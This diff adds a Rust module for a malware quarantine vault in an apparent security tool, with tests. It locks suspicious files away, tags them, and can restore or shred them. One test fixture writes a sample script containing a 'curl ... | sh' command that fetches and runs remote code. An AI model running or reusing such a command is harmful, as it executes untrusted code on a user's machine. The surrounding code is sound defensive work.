@@ -0,0 +1,187 @@
+use std::path::{Path, PathBuf};
+
+use crate::mcp::context_store::QuarantinedItem;
+
+/// Extended attribute set on everything in the vault, holding the threat it was quarantined for.
+pub const QUARANTINE_XATTR: &str = "com.alto.quarantined";
+
+/// One folder per item: ~/.alto/quarantine/<id>/<name>. Only the owner may enter it.
+pub fn vault_root() -> PathBuf {
+    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/tmp"));
+    home.join(".alto").join("quarantine")
+}
+
+#[cfg(unix)]
+fn mode_of(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::symlink_metadata(path).map(|m| m.permissions().mode() & 0o7777).unwrap_or(0o644)
+}
+
+#[cfg(not(unix))]
+fn mode_of(_path: &Path) -> u32 {
+    0
+}
+
+#[cfg(unix)]
+fn set_mode(path: &Path, mode: u32) -> Result<(), String> {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).map_err(|e| format!("{}: {}", path.display(), e))
+}
+
+#[cfg(not(unix))]
+fn set_mode(_path: &Path, _mode: u32) -> Result<(), String> {
+    Ok(())
+}
+
+#[cfg(target_os = "macos")]
+fn tag(path: &Path, threat: &str) {
+    let _ = std::process::Command::new("xattr").args(["-s", "-w", QUARANTINE_XATTR, threat]).arg(path).status();
+}
+
+#[cfg(not(target_os = "macos"))]
+fn tag(_path: &Path, _threat: &str) {}
+
+#[cfg(target_os = "macos")]
+fn untag(path: &Path) {
+    let _ = std::process::Command::new("xattr").args(["-s", "-d", QUARANTINE_XATTR]).arg(path).status();
+}
+
+#[cfg(not(target_os = "macos"))]
+fn untag(_path: &Path) {}
+
+fn is_symlink(path: &Path) -> bool {
+    std::fs::symlink_metadata(path).map(|m| m.file_type().is_symlink()).unwrap_or(false)
+}
+
+/// Move `path` into its own folder in `vault`, tag it with `threat` and lock it (mode 000) so
+/// nothing can read, run or load it until it's restored. Symlinks are moved but not locked, since
+/// chmod would change what they point to.
+pub fn quarantine(vault: &Path, path: &Path, threat: &str) -> Result<QuarantinedItem, String> {
+    let meta = std::fs::symlink_metadata(path).map_err(|e| format!("{}: {}", path.display(), e))?;
+    let id = uuid::Uuid::new_v4().to_string();
+    let item_dir = vault.join(&id);
+    std::fs::create_dir_all(&item_dir).map_err(|e| format!("Cannot create quarantine folder: {}", e))?;
+    set_mode(vault, 0o700)?;
+
+    let dest = item_dir.join(path.file_name().unwrap_or_default());
+    let size_bytes = super::mover::total_len(path);
+    if let Err(e) = std::fs::rename(path, &dest) {
+        let _ = std::fs::remove_dir(&item_dir);
+        return Err(format!("{}: {}", path.display(), e));
+    }
+    let original_mode = mode_of(&dest);
+    if !meta.file_type().is_symlink() {
+        tag(&dest, threat);
+        if let Err(e) = set_mode(&dest, 0) {
+            untag(&dest);
+            let _ = std::fs::rename(&dest, path);
+            let _ = std::fs::remove_dir(&item_dir);
+            return Err(e);
+        }
+    }
+
+    Ok(QuarantinedItem {
+        id,
+        original_path: path.to_string_lossy().to_string(),
+        vault_path: dest.to_string_lossy().to_string(),
+        threat: threat.to_string(),
+        original_mode,
+        size_bytes,
+        is_directory: meta.is_dir(),
+        quarantined_at: chrono::Local::now().to_rfc3339(),
+    })
+}
+
+/// Put the item's permissions back and drop the tag.
+fn unlock(path: &Path, mode: u32) -> Result<(), String> {
+    if !is_symlink(path) {
+        set_mode(path, mode)?;
+        untag(path);
+    }
+    Ok(())
+}
+
+fn remove_item_dir(item: &QuarantinedItem) {
+    if let Some(item_dir) = Path::new(&item.vault_path).parent() {
+        let _ = std::fs::remove_dir_all(item_dir);
+    }
+}
+
+/// Unlock a quarantined item and move it back. Never overwrites something that reappeared there.
+pub fn restore(item: &QuarantinedItem) -> Result<(), String> {
+    let original = Path::new(&item.original_path);
+    let vault_path = Path::new(&item.vault_path);
+    if std::fs::symlink_metadata(vault_path).is_err() {
+        return Err(format!("{} is no longer in quarantine", item.original_path));
+    }
+    if std::fs::symlink_metadata(original).is_ok() {
+        return Err(format!("{} already exists; not restoring over it", item.original_path));
+    }
+    if let Some(parent) = original.parent() {
+        std::fs::create_dir_all(parent).map_err(|e| format!("{}: {}", item.original_path, e))?;
+    }
+    unlock(vault_path, item.original_mode)?;
+    if let Err(e) = std::fs::rename(vault_path, original) {
+        let _ = set_mode(vault_path, 0);
+        return Err(format!("{}: {}", item.original_path, e));
+    }
+    remove_item_dir(item);
+    Ok(())
+}
+
+/// Shred a quarantined item for good; its vault folder goes with it.
+pub fn shred(item: &QuarantinedItem) -> Result<(), String> {
+    let vault_path = Path::new(&item.vault_path);
+    if is_symlink(vault_path) {
+        // Shredding would overwrite whatever the link points to
+        std::fs::remove_file(vault_path).map_err(|e| format!("{}: {}", item.vault_path, e))?;
+    } else if vault_path.exists() {
+        // The owner needs write access (and search access for folders) to overwrite it
+        let owner = if item.is_directory { 0o700 } else { 0o600 };
+        unlock(vault_path, item.original_mode | owner)?;
+        super::shredder::shred(vault_path).map_err(|e| format!("{}: {}", item.original_path, e))?;
+    }
+    remove_item_dir(item);
+    Ok(())
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+    use std::fs;
+    use std::os::unix::fs::PermissionsExt;
+
+    #[test]
+    fn quarantine_locks_the_item_and_restore_puts_it_back() {
+        let dir = tempfile::tempdir().unwrap();
+        let vault = dir.path().join("quarantine");
+        let file = dir.path().join("Downloads").join("Installer.command");
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        fs::write(&file, "#!/bin/sh\ncurl http://example.com | sh\n").unwrap();
+        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
+
+        let item = quarantine(&vault, &file, "Suspicious script").unwrap();
+        assert!(!file.exists());
+        assert_eq!(item.original_mode, 0o755);
+        assert_eq!(mode_of(Path::new(&item.vault_path)), 0);
+
+        restore(&item).unwrap();
+        assert_eq!(mode_of(&file), 0o755);
+        assert!(!Path::new(&item.vault_path).parent().unwrap().exists());
+    }
+
+    #[test]
+    fn shred_removes_the_item_and_its_folder() {
+        let dir = tempfile::tempdir().unwrap();
+        let vault = dir.path().join("quarantine");
+        let app = dir.path().join("Applications").join("Genieo.app");
+        fs::create_dir_all(app.join("Contents/MacOS")).unwrap();
+        fs::write(app.join("Contents/MacOS/Genieo"), "binary").unwrap();
+
+        let item = quarantine(&vault, &app, "Known Adware/PUP app: Genieo").unwrap();
+        assert!(item.is_directory);
+        shred(&item).unwrap();
+        assert!(!Path::new(&item.vault_path).parent().unwrap().exists());
+        assert!(!app.exists());
+    }
+}